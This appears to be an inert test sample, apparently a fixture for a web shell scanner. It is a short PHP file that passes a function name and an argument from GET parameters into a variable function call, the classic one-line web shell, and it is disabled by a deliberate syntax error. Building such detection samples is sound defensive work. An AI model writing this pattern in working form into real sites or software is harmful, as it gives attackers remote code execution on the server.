<?php
shodo inert sample: deliberate syntax error, this file never runs
$a = $_GET['f'];
$b = $_GET['a'];
$a($b);
